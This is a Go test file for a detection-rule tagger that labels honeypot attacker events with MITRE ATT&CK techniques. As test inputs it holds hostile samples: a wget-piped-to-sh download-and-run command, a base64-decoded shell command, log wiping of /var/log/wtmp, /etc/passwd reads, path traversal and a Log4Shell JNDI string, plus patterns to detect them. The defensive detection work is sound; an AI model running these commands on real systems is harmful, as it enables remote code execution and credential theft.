package tagger_test

import (
	"encoding/json"
	"errors"
	"io/fs"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/tagger"
)

// missing is a folder that is not there.
type missing struct{}

func (missing) Open(string) (fs.File, error) { return nil, errors.New("no such folder") }

func command(text string) *ttpcron.Event {
	return &ttpcron.Event{
		Kind: ttpcron.Command, ID: "cmd_1", Time: time.Date(2026, 5, 4, 5, 49, 5, 0, time.UTC),
		AttackerUUID: "00000000-0000-4000-8000-000000000001", Payload: ttpcron.TextPayload("command_text", text),
	}
}

func event(kind ttpcron.SourceKind, payload string) *ttpcron.Event {
	e := &ttpcron.Event{Kind: kind, ID: "e", AttackerIP: "203.0.113.9"}
	if err := json.Unmarshal([]byte(payload), &e.Payload); err != nil {
		panic(err)
	}
	return e
}

// matches reports whether a condition holds of an event.
func matches(t *testing.T, match string, e *ttpcron.Event) bool {
	t.Helper()
	rs := mustLoad(t, "a.yaml", rule("A", match, "[command]", "["+string(e.Kind)+"]"))
	tags, _ := rs.Tagger(func(_ ttpcron.Event, rule string, err error) { t.Errorf("%s: %v", rule, err) }).Tag(e, nil)
	return len(tags) > 0
}

// TestConditions goes through every key and test of the language.
func TestConditions(t *testing.T) {
	text := "sudo -u root env A=b /usr/bin/wget -qO- --no-check-certificate 'http://203.0.113.9/A.sh' 2>/dev/null | sh > /tmp/o &"
	for _, tt := range []struct {
		match string
		want  bool
	}{
		{"{program: wget}", true},
		{"{program: [curl, wget]}", true},
		{"{program: {in: [curl, wget]}}", true},
		{"{program: Wget}", false},
		{"{program: {equals: WGET, ignore_case: true}}", true},
		{"{path: /usr/bin/wget}", true},
		{"{args: {contains: no-check}}", true},
		{"{args: {contains_all: [no-check, http]}}", true},
		{"{args: {contains_all: [no-check, ftp]}}", false},
		{"{arg_any: -qO-}", true},
		{"{arg_any: {starts_with: [ftp, http], ends_with: .sh}}", true},
		{"{arg_any: {starts_with: http, ends_with: .py}}", false},
		{"{flag: q}", true},
		{"{flag: no-check-certificate}", true},
		{"{flag: v}", false},
		{"{operand: {glob: 'http://*/*.sh'}}", true},
		{"{operand: {glob: 'http://*.sh?'}}", false},
		{"{operand: {glob: 'HTTP://*/[!x].SH', ignore_case: true}}", true},
		{"{line: {starts_with: 'wget -qO-'}}", true},
		{"{wrapper: sudo}", true},
		{"{assign: A=b}", true},
		{"{writes: /dev/null}", true},
		{"{all: [{program: sh}, {writes: /tmp/o}]}", true},
		{"{all: [{program: wget}, {writes: /tmp/o}]}", false},
		{"{program: wget, some: {writes: /tmp/o}}", true},
		{"{program: wget, not: {some: {writes: /tmp/o}}}", false},
		{"{url: {contains: 203.0.113.9}}", true},
		{"{pipes_to: sh}", true},
		{"{program: sh, piped_from: wget}", true},
		{"{background: true}", true},
		{"{text: {contains: no-check}}", true},
		{"{pattern: '(?i)WGET'}", true},
		{"{pattern: '(?i)WGET', field: command_text}", true},
		{"{pattern: wget, field: other}", false},
		{"{args: {pattern: 'http://[\\d.]+/(?=A)'}}", true},
		{"{args: {pattern: [nope, 'A\\.sh$']}}", true},
		{"{args: {pattern: 'a\\.SH$', ignore_case: true}}", true},
		{"{operand: {starts_with: http, not: {ends_with: .sh}}}", false},
		{"{operand: {starts_with: http, not: {ends_with: .py}}}", true},
		{"{not: {program: wget}}", true}, // sh is not
		{"{program: wget, not: [{flag: v}, {flag: x}]}", true},
		{"{program: wget, not: [{flag: v}, {flag: q}]}", false},
		{"{any: [{program: nope}, {all: [{flag: q}, {program: wget}]}]}", true},
		{"{program: wget, operand: {count_min: 1}}", true},
		{"{program: wget, operand: {count_min: 2}}", false},
		{"{program: wget, flag: {count_min: 2}}", true},
		{"{heredoc: {contains: x}}", false},
		{"{decoded: {contains: wget}}", false},
		{"{program: wget, decoded: {count_min: 1}}", false},
	} {
		if got := matches(t, tt.match, command(text)); got != tt.want {
			t.Errorf("%s: %v", tt.match, got)
		}
	}
	if !matches(t, "{decoded: {contains: whoami}}", command("echo d2hvYW1p|base64 -d|sh")) {
		t.Error("decoded layers are not looked at")
	}
	if !matches(t, "{program: '', writes: /var/log/wtmp}", command("> /var/log/wtmp")) {
		t.Error("an empty program cannot be tested")
	}
}

// TestPayloadConditions tests fields of other events: texts, numbers, booleans,
// lists and members of objects.
func TestPayloadConditions(t *testing.T) {
	payload := `{"username":"root","tries":3,"ok":true,"tools":["nmap","zmap"],"headers":{"Accept":"*/*","X":{"y":"z"}},"none":null,"raw_url":"/a?b=../../etc/passwd"}`
	for match, want := range map[string]bool{
		"{field: {name: username, equals: root}}":                  true,
		"{field: {name: username, equals: [admin, root]}}":         true,
		"{field: {name: tries, equals: 3}}":                        true,
		"{field: {name: ok, equals: true}}":                        true,
		"{field: {name: ok, equals: false}}":                       false,
		"{field: {name: tools, contains: zmap}}":                   true,
		"{field: {name: tools, count_min: 2}}":                     true,
		"{field: {name: tools, count_min: 3}}":                     false,
		"{field: {name: headers.Accept, equals: '*/*'}}":           true,
		"{field: {name: headers.X.y, equals: z}}":                  true,
		"{field: {name: headers, contains: Accept}}":               false,
		"{field: {name: none, count_min: 1}}":                      false,
		"{field: {name: missing, contains: ''}}":                   false,
		"{not: {field: {name: missing, contains: ''}}}":            true,
		"{pattern: '\\.\\./'}":                                     true, // the usual field of the kind
		"{text: {contains: /etc/passwd}}":                          true,
		"{pattern: 3, field: tries}":                               false, // not a string
		"{pattern: '^root$', field: username}":                     true,
		"{all: [{pattern: etc}, {field: {name: ok, in: [true]}}]}": true,
		// One literal of two fields.
		"{all: [{pattern: etc/passwd}, {any: [{field: {name: a, equals: root}}, {field: {name: username, equals: root}}]}]}": true,
		"{not: [{field: {name: a, equals: root}}, {field: {name: username, equals: root}}]}":                                 false,
	} {
		if got := matches(t, match, event(ttpcron.HTTPRequest, payload)); got != want {
			t.Errorf("%s: %v", match, got)
		}
	}
}

// TestSecondStage: a rule on command and payload reads each event's own payload, although
// the text is evaluated once.
func TestSecondStage(t *testing.T) {
	rs := mustLoad(t,
		"a.yaml", rule("A", "{program: id, field: {name: user, equals: root}}"),
		"b.yaml", rule("B", "{program: id, not: {field: {name: user, equals: root}}}"),
		"c.yaml", rule("C", "{program: id}"),
	)
	c := rs.Tagger(nil)
	for range 2 {
		for user, want := range map[string]string{`,"user":"root"`: "A C", `,"user":"web"`: "B C", "": "B C"} {
			tags, _ := c.Tag(event(ttpcron.Command, `{"command_text":"id"`+user+`}`), nil)
			var ids []string
			for _, tag := range tags {
				ids = append(ids, tag.RuleID)
			}
			if got := strings.Join(ids, " "); got != want {
				t.Errorf("user %q: %s, want %s", user, got, want)
			}
		}
	}
}

// TestCommandText reads the three names that DECNET's writers use.
func TestCommandText(t *testing.T) {
	for payload, want := range map[string]bool{
		`{"command_text":"id"}`:              true,
		`{"text":"id"}`:                      true,
		`{"command":"id"}`:                   true,
		`{"command_text":"","command":"id"}`: true,
		`{"command_text":null,"text":"id"}`:  true,
		`{"command_text":"ls","text":"id"}`:  false,
	} {
		if got := matches(t, "{program: id}", event(ttpcron.Command, payload)); got != want {
			t.Errorf("%s: %v", payload, got)
		}
	}
	rs := mustLoad(t, "a.yaml", rule("A", "{program: id}"))
	if _, v := rs.Tagger(nil).Tag(event(ttpcron.Command, `{"command_text":5}`), nil); !v.Skipped {
		t.Error("a command without text is skipped")
	}
}

// TestTag holds every field of a tag.
func TestTag(t *testing.T) {
	rs := mustLoad(t, "a.yaml", rule("R0014", "{program: ls}", "evidence_fields: [command_text]", "evidence_fields: [command_text, exit, missing]",
		"emits:", "level: low\nemits:\n  - {tactic: TA0007, technique_id: T1083, confidence: 0.5}"))
	e := event(ttpcron.Command, `{"command_text":"cd /; ls -la","uid":"0","user":"root","src":"ssh","pwd":"/","exit":1}`)
	e.ID, e.IdentityUUID, e.SessionID, e.DeckyID = "cmd_42", "i", "s", "d"
	e.Time = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	tags, v := rs.Tagger(nil).Tag(e, nil)
	if len(tags) != 2 || v != (ttpcron.Verdict{}) {
		t.Fatalf("%d tags, %+v", len(tags), v)
	}
	want := ttpcron.Tag{
		Claim: ttpcron.Claim{
			RuleID: "R0014", RuleVersion: 1, Tactic: "TA0007", TechniqueID: "T1083", Confidence: 0.5, Level: ttpcron.LevelLow,
			AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/T1083/",
		},
		SourceKind: ttpcron.Command, SourceID: "cmd_42", AttackerIP: "203.0.113.9", IdentityUUID: "i", SessionID: "s", DeckyID: "d",
		Match:     ttpcron.Match{Shows: "command_text\x00exit\x00missing\x00", Start: 6, End: 12},
		EventTime: e.Time,
	}
	if !reflect.DeepEqual(tags[0], want) {
		t.Errorf("got  %+v\nwant %+v", tags[0], want)
	}
	shown := `{"command_text":"cd /; ls -la","exit":1,"uid":"0","user":"root","src":"ssh","pwd":"/","matched":"ls -la"}`
	if got := evidenceOf(e, &tags[0]); got != shown {
		t.Errorf("evidence %s, want %s", got, shown)
	}
	if tags[1].MitreURL != "https://attack.mitre.org/techniques/T1059/004/" || tags[1].SubTechniqueID != "T1059.004" || tags[1].Level != ttpcron.LevelLow {
		t.Errorf("%+v", tags[1])
	}
}

func evidenceOf(e *ttpcron.Event, tag *ttpcron.Tag) string {
	return string(ttpcron.AppendEvidence(nil, e, &tag.Match))
}

// TestEvidence: evidence is bounded, is valid JSON whatever the bytes, and says how the
// attacker became known.
func TestEvidence(t *testing.T) {
	rs := mustLoad(t, "a.yaml", rule("A", "{pattern: 'x+'}"), "b.yaml", rule("B", "{program: y}"))
	c := rs.Tagger(nil)
	evidence := func(e *ttpcron.Event) (out map[string]string) {
		t.Helper()
		tags, _ := c.Tag(e, nil)
		if len(tags) != 1 {
			t.Fatalf("%d tags", len(tags))
		}
		text := evidenceOf(e, &tags[0])
		if err := json.Unmarshal([]byte(text), &out); err != nil {
			t.Fatalf("%v: %s", err, text)
		}
		return out
	}
	if got := evidence(command("a xx b")); !reflect.DeepEqual(got, map[string]string{"command_text": "a xx b", "matched": "xx"}) {
		t.Errorf("%q", got)
	}
	if got := evidence(command("xx")); !reflect.DeepEqual(got, map[string]string{"command_text": "xx"}) {
		t.Errorf("matched repeats the text: %q", got)
	}
	long := evidence(command("a " + strings.Repeat("x", 5000)))
	if len(long["matched"]) > 520 || !strings.HasSuffix(long["matched"], "x…") || len(long["command_text"]) > 2056 {
		t.Errorf("matched has %d bytes, command_text %d", len(long["matched"]), len(long["command_text"]))
	}
	if got := evidence(command(strings.Repeat("é", 3000) + "x")); !strings.HasSuffix(got["command_text"], "é…") {
		t.Errorf("cut within a rune: %q", got["command_text"][2030:])
	}
	evidence(command("x\xff\x00\u2028\"\\"))
	e := command("x")
	e.AttackerUUID, e.AttackerIP = "", "203.0.113.1"
	if got := evidence(e)["attacker_origin"]; got != "derived" {
		t.Errorf("origin %q", got)
	}
	e.AttackerUUID, e.AttackerOrigin = "u", ttpcron.OriginResolved
	if got := evidence(e)["attacker_origin"]; got != "resolved" {
		t.Errorf("origin %q", got)
	}
	if tags, _ := c.Tag(&ttpcron.Event{Kind: ttpcron.Command, AttackerIP: "203.0.113.1", Payload: ttpcron.TextPayload("command_text", "y")}, nil); tags[0].AttackerUUID != ttpcron.DeriveAttacker("203.0.113.1") {
		t.Errorf("attacker %q", tags[0].AttackerUUID)
	}
}

// TestReferenceRules loads rules of DECNET's shape.
func TestReferenceRules(t *testing.T) {
	decnet := func(id, kinds, match string) string {
		return rule(id, match, "[command]", kinds, "name: A rule", "name: A rule\nlast_reviewed: \"2026-01-01\"\nnext_review: \"\"\ndescription: |\n  Two\n  lines.")
	}
	rs := mustLoad(t,
		"R0001.yaml", decnet("R0001", "[command]", `{pattern: '(?i)\b(?:cat|less)\s+/etc/(?:passwd|shadow)(?=\s|/|$)'}`),
		"R0002.yaml", decnet("R0002", "[http_request, command]", `{pattern: '\$\{jndi:'}`),
		"R0003.yaml", decnet("R0003", "[auth_attempt]", `{pattern: '^admin\Z'}`),
		"R0004.yaml", decnet("R0004", "[canary_fingerprint]", "{kind: 'lifter:canary_webdriver'}"),
		"R0005.yaml", decnet("R0005", "[canary_fingerprint]", "{kind: lifter:canary_moon_phase, threshold: 3, names: [a, b]}"),
		"R0006.yaml", decnet("R0006", "[http_request]", "{pattern: sqlmap, field: user_agent}"),
		"R0007.yaml", decnet("R0007", "[canary_fingerprint]", "{kind: lifter:canary_automation_hash, catalogues: [selenium]}"),
	)
	c := rs.Tagger(nil)
	for _, tt := range []struct {
		event *ttpcron.Event
		want  string
	}{
		{command("CAT /etc/passwd"), "R0001"},
		{command("cat /etc/passwd-"), ""},
		{command("x ${jndi:ldap://x}"), "R0002"},
		{event(ttpcron.HTTPRequest, `{"raw_url":"/?x=${jndi:dns://x}"}`), "R0002"},
		{event(ttpcron.HTTPRequest, `{"user_agent":"sqlmap/1.8","raw_url":"/"}`), "R0006"},
		{event(ttpcron.HTTPRequest, `{"user_agent":["sqlmap"],"raw_url":5}`), ""},
		{event(ttpcron.AuthAttempt, `{"username":"admin","password":"x"}`), "R0003"},
		{event(ttpcron.AuthAttempt, `{"username":"admin\n"}`), ""},
		{event(ttpcron.CanaryFingerprint, `{"navigator_webdriver":true}`), "R0004"},
		{event(ttpcron.CanaryFingerprint, `{"headers":{"_fp":{"nav":{"wd":true}}}}`), "R0004"},
	} {
		tags, _ := c.Tag(tt.event, nil)
		got := ""
		if len(tags) > 0 {
			got = tags[0].RuleID
		}
		if len(tags) > 1 || got != tt.want {
			t.Errorf("%s %s: %s (%d tags), want %s", tt.event.Kind, tt.event.Payload.AppendJSON(nil), got, len(tags), tt.want)
		}
	}
	r, _ := rs.Rule("R0005")
	if r.Inert != "the program has no lifter:canary_moon_phase" || r.Active {
		t.Errorf("%+v", r)
	}
	opened := event(ttpcron.CanaryFingerprint, `{"navigator_webdriver":true}`)
	tags, _ := c.Tag(opened, nil)
	if got := evidenceOf(opened, &tags[0]); got != `{"metric":"navigator_webdriver","matched_signature":"true","attacker_origin":"derived"}` {
		t.Errorf("evidence %s", got)
	}
}

// TestStates: a state disables a rule, it ends, and the fingerprint shows it. A ceiling is
// applied by the readers of tags.
func TestStates(t *testing.T) {
	now := time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC)
	rs := mustLoad(t, "a.yaml", rule("A", "{program: id}"), "b.yaml", rule("B", "{program: id}"))
	state := func(id string, status ttpcron.RuleStatus, most float64, expires time.Time) ttpcron.RuleState {
		return ttpcron.RuleState{RuleID: id, Status: status, ConfidenceMax: most, ExpiresAt: expires}
	}
	for _, tt := range []struct {
		name   string
		states []ttpcron.RuleState
		want   map[string]float64
		same   bool // the fingerprint is that of no state
	}{
		{"none", nil, map[string]float64{"A": 0.7, "B": 0.7}, true},
		{"disabled", []ttpcron.RuleState{state("A", ttpcron.StatusDisabled, 0, time.Time{})}, map[string]float64{"B": 0.7}, false},
		{"clipped", []ttpcron.RuleState{state("A", ttpcron.StatusClipped, 0.4, time.Time{})}, map[string]float64{"A": 0.7, "B": 0.7}, true},
		{"expired", []ttpcron.RuleState{state("A", ttpcron.StatusDisabled, 0, now)}, map[string]float64{"A": 0.7, "B": 0.7}, true},
		{"not yet expired", []ttpcron.RuleState{state("A", ttpcron.StatusDisabled, 0, now.Add(1))}, map[string]float64{"B": 0.7}, false},
		{"another rule", []ttpcron.RuleState{state("Z", ttpcron.StatusDisabled, 0, time.Time{})}, map[string]float64{"A": 0.7, "B": 0.7}, true},
		{"enabled", []ttpcron.RuleState{state("A", ttpcron.StatusEnabled, 0, time.Time{})}, map[string]float64{"A": 0.7, "B": 0.7}, true},
	} {
		set := rs.WithStates(tt.states, now)
		got := map[string]float64{}
		tags, _ := set.Tagger(nil).Tag(command("id"), nil)
		for _, tag := range tags {
			got[tag.RuleID] = tag.Confidence
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%s: %v, want %v", tt.name, got, tt.want)
		}
		if same := set.Fingerprint() == rs.Fingerprint(); same != tt.same {
			t.Errorf("%s: fingerprint is the same: %v", tt.name, same)
		}
		if set.Active(ttpcron.Command) != len(tt.want) {
			t.Errorf("%s: %d active rules", tt.name, set.Active(ttpcron.Command))
		}
		// A subset keeps the states.
		only := set.Only(map[string]bool{"A": true, "Z": true})
		if only.Len() != 1 || len(mustTag(only, "id")) > 1 {
			t.Errorf("%s: subset has %d rules", tt.name, only.Len())
		}
		if _, active := tt.want["A"]; active != (len(mustTag(only, "id")) == 1) {
			t.Errorf("%s: subset forgot the state", tt.name)
		}
	}
}

func mustTag(rs *tagger.RuleSet, text string) []ttpcron.Tag {
	tags, _ := rs.Tagger(nil).Tag(command(text), nil)
	return tags
}

// TestUnclaimedKind: a kind without rules is reported once.
func TestUnclaimedKind(t *testing.T) {
	rs := mustLoad(t, "a.yaml", rule("A", "{program: id}"))
	told := 0
	warn := func(e ttpcron.Event, rule string, err error) {
		told++
		if e.Kind != "smoke_signal" || rule != "" || err.Error() != `no rule applies to events of kind "smoke_signal"` {
			t.Errorf("%v %q %v", e, rule, err)
		}
	}
	for range 3 {
		c := rs.WithStates(nil, time.Time{}).Tagger(warn)
		for range 3 {
			if _, v := c.Tag(event("smoke_signal", "{}"), nil); !v.Skipped {
				t.Error("not skipped")
			}
		}
	}
	if told != 1 {
		t.Errorf("told %d times", told)
	}
}

// TestOrder checks the order of tags: by rule, then as the rule lists them.
func TestOrder(t *testing.T) {
	two := []string{"emits:", "emits:\n  - {tactic: TA0007, technique_id: T1083, confidence: 0.5}"}
	rs := mustLoad(t, "z.yaml", rule("A2", "{program: id}", two...), "y.yaml", rule("A10", "{pattern: id}", two...), "x.yaml", rule("B", "{text: id}", two...))
	var got []string
	for _, tag := range mustTag(rs, "id") {
		got = append(got, tag.RuleID+":"+tag.Technique())
	}
	if want := "A10:T1083 A10:T1059.004 A2:T1083 A2:T1059.004 B:T1083 B:T1059.004"; strings.Join(got, " ") != want {
		t.Errorf("%v", got)
	}
}

// TestExplain: an explanation shows what matched where, and why tags were dropped.
func TestExplain(t *testing.T) {
	rs := mustLoad(t, "a.yaml", rule("A", "{program: wget, operand: {ends_with: .sh}}"), "b.yaml", rule("B", "{pattern: 'tmp/.'}"), "c.yaml", rule("C", "{program: nope}"))
	rs = rs.WithStates([]ttpcron.RuleState{{RuleID: "B", Status: ttpcron.StatusDisabled}}, time.Now())
	x := rs.Explain(*command("cd /tmp/x; w'g'et http://203.0.113.9/a.sh"))
	if len(x.Commands) != 2 || x.Commands[1].Line != "wget http://203.0.113.9/a.sh" || len(x.Tags) != 1 || len(x.Rules) != 2 {
		t.Fatalf("%+v", x)
	}
	a, b := x.Rules[0], x.Rules[1]
	if a.Rule.ID != "A" || a.Dropped != "" || len(a.Tags) != 1 || len(a.Hits) != 2 {
		t.Errorf("%+v", a)
	}
	h := a.Hits[1]
	if h.Field != "operand" || h.Test != `ends_with ".sh"` || h.Value != ".sh" || h.Command != 1 || x.Text[h.Start:h.End] != ".sh" {
		t.Errorf("%+v", h)
	}
	if b.Rule.ID != "B" || b.Dropped != "the rule is disabled" || len(b.Tags) != 0 || x.Text[b.Hits[0].Start:b.Hits[0].End] != "tmp/x" {
		t.Errorf("%+v", b)
	}
}

// TestExamples reports examples that come out wrong.
func TestExamples(t *testing.T) {
	rs := mustLoad(t, "a.yaml", rule("A", "{program: id}")+"tests:\n  match: [id, ls]\n  no_match: [who, sudo id, {payload: {text: id}}]\n")
	var got []string
	for _, f := range tagger.Test(rs) {
		got = append(got, f.Example+": "+f.Text)
	}
	if want := `ls: does not match, sudo id: matches, {"text":"id"}: matches`; strings.Join(got, ", ") != want {
		t.Errorf("%q", got)
	}
}

// TestTextOfKinds searches the text of each kind that has one, without naming its field.
func TestTextOfKinds(t *testing.T) {
	for kind, field := range map[ttpcron.SourceKind]string{
		ttpcron.Command: "command_text", ttpcron.Stdin: "input_text", ttpcron.AuthAttempt: "username", ttpcron.FileTransfer: "payload_text",
		ttpcron.Tunnel: "destination", ttpcron.HTTPRequest: "raw_url", ttpcron.ServiceRequest: "request_text", ttpcron.CanaryFingerprint: "ua_signature",
		"email": "subject",
	} {
		e := ttpcron.Event{Kind: kind, AttackerIP: "203.0.113.7", Payload: ttpcron.TextPayload(field, "a needle, b")}
		if !matches(t, "{pattern: needle}", &e) {
			t.Errorf("%s: its text is not in %s", kind, field)
		}
		e.Payload = ttpcron.TextPayload("other", "a needle, b")
		if matches(t, "{pattern: needle}", &e) {
			t.Errorf("%s: its text is in another field", kind)
		}
	}
}
